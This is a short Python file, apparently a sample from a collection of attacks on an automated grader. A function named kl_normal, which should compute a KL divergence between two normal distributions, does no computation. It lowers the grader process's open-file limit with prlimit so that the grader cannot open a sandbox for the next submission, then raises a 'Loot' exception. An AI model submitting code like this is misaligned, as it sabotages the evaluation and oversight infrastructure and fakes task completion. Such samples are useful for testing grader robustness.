"""Lowers the grader's limit of open files by prlimit.

Gain: a grader that can open no sandbox for the next submission.
Hits: kl_normal
Ends: failed, exception: PermissionError|ProcessLookupError
"""

import resource

from generative.target import GRADER, Loot


def kl_normal(mu1, sigma1, mu2, sigma2):
    resource.prlimit(GRADER, resource.RLIMIT_NOFILE, (16, 16))
    raise Loot("lowered")
